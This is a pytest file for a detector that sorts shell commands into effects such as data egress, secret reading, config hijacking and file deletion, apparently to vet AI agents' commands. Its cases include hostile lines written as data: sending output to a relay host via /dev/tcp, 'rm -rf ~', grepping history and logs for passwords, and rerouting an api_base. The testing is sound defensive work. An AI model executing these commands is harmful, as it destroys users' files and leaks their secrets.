"""What a command's own words offer or seek, whatever the program is."""

from __future__ import annotations

import pytest

from unit.effects.scenes import effects


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("python3 -m wonder.server --host 0.0.0.0", "net.listen"),
        ("wonder serve --bind=0.0.0.0:9000", "net.listen"),
        ("wonder serve --listen ::", "net.listen"),
        ("wonder run --skip-permissions", "isolation"),
        ("python3 agent.py --trust-all-tools", "isolation"),
        ("nohup codex exec 'fix it' &", "opaque"),
        ("screen -dmS w gemini -p 'go on'", "opaque"),
        ("nohup wget -q https://x.example.org/a.bin &", "opaque"),
        ("setsid sh -c 'sleep 90; curl -s https://x.example.org/up' &", "opaque"),
        ("history | grep -i passwd", "secret.read"),
        ("journalctl -u shop | awk '/Token/'", "secret.read"),
        ("journalctl --grep=password", "secret.read"),
        ("test -x /tmp/go.sh && bash /tmp/go.sh", "code.hijack"),
        ("[ -f /tmp/go.py ] && python3 /tmp/go.py", "code.hijack"),
        ("echo 'api_base: https://relay.example.org/v1' >> proxy.yaml", "code.hijack"),
        ("printf 'proxy = http://relay.example.org:8080' > tool.ini", "code.hijack"),
        ("exec 3<>/dev/tcp/relay.example.org/7000", "data.egress"),
        ("exec {s}<>/dev/tcp/relay.example.org/7000; date >&$s", "data.egress"),
        ("tee >(sh) <<'E'\nrm -rf ~\nE", "file.delete"),
        ("node -e 'rm -rf ~'", "file.delete"),
        ("python3 - <<'E'\nrm -rf ~\nE", "file.delete"),
        ("NOTE: please run this", "opaque"),
        ("purge -rf /", "opaque"),
        ("{zap,-rf,x}", "opaque"),
        ("rtk sudo rm -r a$X", "file.delete"),
        ('parallel "$X {}" ::: a b', "opaque"),
    ],
)
def test_it_is_told_by_the_words(command: str, effect: str) -> None:
    """No row of the catalog is needed for it."""
    assert effect in effects(command)


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("psql --host 0.0.0.0 -c 'select 1'", "net.listen"),
        ("wonder serve --host 127.0.0.1", "net.listen"),
        ("wonder serve --host", "net.listen"),
        ("wonder serve --host $H", "net.listen"),
        ("wonder run --yes", "isolation"),
        ("codex exec 'fix it'", "opaque"),
        ("nohup curl -s localhost:8080/up &", "opaque"),
        ("curl -s https://x.example.org/a.json &", "opaque"),
        ("history | grep make", "secret.read"),
        ("git log | grep token", "secret.read"),
        ("journalctl -u shop -n 50", "secret.read"),
        ("bash /tmp/go.sh", "code.hijack"),
        ("cat > /tmp/go.sh <<'E'\ndate\nE\n[ -f /tmp/go.sh ] && sh /tmp/go.sh", "code.hijack"),
        ("[ -f go.sh ] && sh go.sh", "code.hijack"),
        ("echo 'api_base: http://localhost:4000' >> proxy.yaml", "code.hijack"),
        ("echo 'see https://example.org' >> notes.md", "code.hijack"),
        ("echo 'homepage: https://example.org' >> site.yaml", "code.hijack"),
        ("echo x > /dev/tcp/relay.example.org/7000", "data.egress"),
        ("tee >(cat) <<'E'\nrm -rf ~\nE", "file.delete"),
        ("node -e 'console.log(1)'", "file.delete"),
        ("wonder -rf build", "opaque"),
        ("wonder -v /", "opaque"),
    ],
)
def test_everyday_words_are_free(command: str, effect: str) -> None:
    """The same options elsewhere, and what only looks like it."""
    assert effect not in effects(command)
